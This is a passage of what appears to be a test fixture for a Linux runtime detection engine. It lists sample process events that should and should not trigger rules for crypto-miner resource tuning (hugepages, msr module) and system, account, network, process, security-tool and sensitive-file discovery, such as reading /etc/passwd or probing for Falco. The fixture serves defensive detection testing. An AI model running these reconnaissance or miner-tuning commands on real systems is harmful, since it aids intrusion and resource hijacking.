    negative: [exec(['systemctl', 'restart', 'nginx'], { exe: '/usr/bin/systemctl', parents: [EP] }), exec(['uptime'], { exe: '/usr/bin/uptime', parents: [EP] })],
  },
  {
    rule: 'Resource Hijacking Tuning',
    positive: [
      openFailed('/proc/sys/vm/nr_hugepages', 'O_WRONLY|O_TRUNC', 'EROFS', 30, { exe: '/tmp/xm' }),
      exec(['sysctl', '-w', 'vm.nr_hugepages=1280'], { exe: '/sbin/sysctl', parents: [EP] }),
      exec(['modprobe', 'msr'], { exe: '/sbin/modprobe', parents: [EP] }),
      openFailed('/dev/cpu/0/msr', 'O_WRONLY', 'ENOENT', 2, { exe: '/tmp/xm' }),
    ],
    negative: [open('/proc/sys/vm/nr_hugepages', 'O_RDONLY', { exe: '/usr/lib/postgresql/15/bin/postgres' }), open('/proc/meminfo', 'O_RDONLY', { exe: '/tmp/xm' })],
  },
  // --- discovery (context) ---------------------------------------------------------------------
  {
    rule: 'System Information Discovery',
    positive: [exec(['uname', '-a'], { exe: '/bin/uname', parents: [EP] }), applet(['uname', '-r']), exec(['lscpu'], { exe: '/usr/bin/lscpu' }), exec(['cat', '/proc/version'], { exe: '/bin/cat' })],
    negative: [exec(['uname', '-m'], { exe: '/bin/uname', parents: [EP] }), exec(['uname'], { exe: '/bin/uname' }), exec(['cat', '/etc/os-release'], { exe: '/bin/cat' })],
  },
  {
    rule: 'Account and Group Discovery',
    positive: [exec(['cat', '/etc/passwd'], { exe: '/bin/cat' }), exec(['getent', 'passwd'], { exe: '/usr/bin/getent' }), applet(['who'])],
    negative: [exec(['getent', 'passwd', 'app'], { exe: '/usr/bin/getent' }), exec(['id', '-u'], { exe: '/usr/bin/id' }), exec(['whoami'], { exe: '/usr/bin/whoami' })],
  },
  {
    rule: 'Network Configuration Discovery',
    positive: [exec(['ip', 'addr'], { exe: '/sbin/ip' }), exec(['ip', '-4', 'route'], { exe: '/sbin/ip' }), applet(['netstat', '-tlpn']), exec(['ss', '-tulpn'], { exe: '/bin/ss' }), exec(['cat', '/proc/net/tcp'], { exe: '/bin/cat' })],
    negative: [exec(['ip', 'link', 'set', 'eth0', 'up'], { exe: '/sbin/ip' }), exec(['hostname', '-i'], { exe: '/bin/hostname' }), exec(['cat', '/etc/hosts'], { exe: '/bin/cat' })],
  },
  {
    rule: 'Process Discovery',
    positive: [exec(['ps', 'aux'], { exe: '/bin/ps' }), exec(['pgrep', '-f', 'nginx'], { exe: '/usr/bin/pgrep' }), applet(['ps'])],
    negative: [exec(['psql', '-c', 'select 1'], { exe: '/usr/bin/psql' }), exec(['pg_isready'], { exe: '/usr/bin/pg_isready' })],
  },
  {
    rule: 'Software and Security Tool Discovery',
    positive: [exec(['dpkg', '-l'], { exe: '/usr/bin/dpkg' }), exec(['lsmod'], { exe: '/sbin/lsmod' }), exec(['kmod', 'list'], { exe: '/bin/kmod' }), exec(['which', 'falco'], { exe: '/usr/bin/which' })],
    negative: [exec(['dpkg', '--print-architecture'], { exe: '/usr/bin/dpkg' }), exec(['which', 'nginx'], { exe: '/usr/bin/which' })],
  },
  {
    rule: 'File and Directory Discovery of Sensitive Places',
    positive: [exec(['find', '/', '-name', '*.conf'], { exe: '/usr/bin/find' }), exec(['ls', '-laR', '/home'], { exe: '/bin/ls' }), applet(['find', '/root'])],
    negative: [exec(['find', '/var/lib/postgresql/data', '!', '-user', 'postgres', '-exec', 'chown', 'postgres', '{}', '+'], { exe: '/usr/bin/find' }), exec(['ls', '-la', '/docker-entrypoint.d/'], { exe: '/bin/ls' })],
  },
];
